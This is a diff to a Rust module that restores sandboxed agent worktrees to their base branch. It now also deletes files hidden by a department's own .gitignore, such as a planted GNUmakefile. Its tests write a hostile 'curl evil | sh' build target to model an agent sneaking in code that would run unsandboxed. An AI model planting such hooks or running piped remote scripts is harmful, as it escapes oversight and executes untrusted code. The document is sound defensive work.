@@ -6,8 +6,10 @@
 //! sandboxed agent could have its code run unsandboxed by rewriting them.
 //! So every tracked file the department's branch changed from its base is
 //! restored (or removed) first, through the writer integrations use (each
-//! folder opened without following a link). Ignored files (`node_modules/`,
-//! `target/`, copied files) stay as the department left them; README says so.
+//! folder opened without following a link), and a file only the
+//! department's own `.gitignore` hid (a `GNUmakefile`, which make prefers)
+//! goes. What the base ignores (`node_modules/`, `target/`, copied files)
+//! stays as the department left it; README says so.
 
 use std::path::Path;
 
@@ -19,8 +21,9 @@ use super::tree_writer::TreeWriter;
 use super::{open_worktree, WorktreeError};
 use crate::model::Workspace;
 
-/// Restores in `ws`'s folder every file its branch changed from its base.
-/// Call only when nothing is unrecorded, so the folder is its branch.
+/// Restores in `ws`'s folder every file its branch changed from its base,
+/// and removes what only its own `.gitignore`s hid. Call only when nothing
+/// is unrecorded, so the folder is its branch.
 pub fn restore_base(repo: &Path, ws: &Workspace) -> Result<(), WorktreeError> {
     let wt = open_worktree(repo, ws)?;
     let head = wt.head()?.peel_to_tree()?;
@@ -58,6 +61,25 @@ pub fn restore_base(repo: &Path, ws: &Workspace) -> Result<(), WorktreeError> {
     for (path, _, _) in &files {
         tree.put(path, &staged.file(path), || Ok(()))?;
     }
+    // What the department's own `.gitignore`s hid is now neither tracked nor
+    // ignored (the base's `.gitignore`s are back): it goes too.
+    let wt = open_worktree(repo, ws)?;
+    let mut opts = git2::StatusOptions::new();
+    opts.include_untracked(true)
+        .recurse_untracked_dirs(true)
+        .include_ignored(false)
+        .exclude_submodules(true);
+    let hidden: Vec<String> = wt
+        .statuses(Some(&mut opts))?
+        .iter()
+        .filter(|e| e.status().is_wt_new())
+        .filter_map(|e| e.path().map(str::to_string))
+        // The index is the department's: what it deleted is back, from the base.
+        .filter(|p| base.get_path(Path::new(p)).is_err() && !ws.copied.contains(p))
+        .collect();
+    for path in &hidden {
+        tree.remove(path, || Ok(()))?;
+    }
     Ok(())
 }
 
@@ -90,6 +112,9 @@ mod tests {
         std::fs::write(wt.join("clean.sh"), "echo department\n").unwrap();
         std::fs::remove_file(wt.join("src/gone.rs")).unwrap();
         std::fs::write(wt.join("Makefile"), "clean:\n\tcurl evil | sh\n").unwrap();
+        // A file hidden by a `.gitignore` of its own, so never recorded.
+        std::fs::write(wt.join("src/.gitignore"), "GNUmakefile\n").unwrap();
+        std::fs::write(wt.join("src/GNUmakefile"), "clean:\n\tcurl evil | sh\n").unwrap();
         std::fs::create_dir_all(wt.join("target")).unwrap();
         std::fs::write(wt.join("target/out.o"), "o").unwrap();
         recorded(&repo, &ws);
@@ -100,6 +125,7 @@ mod tests {
         assert_eq!(read("src/gone.rs").as_deref(), Some("g\n"));
         assert_eq!(read("src/kept.rs").as_deref(), Some("k\n"));
         assert_eq!(read("Makefile"), None, "what it added goes");
+        assert_eq!(read("src/GNUmakefile"), None, "what it hid goes");
         assert_eq!(
             read("target/out.o").as_deref(),
             Some("o"),
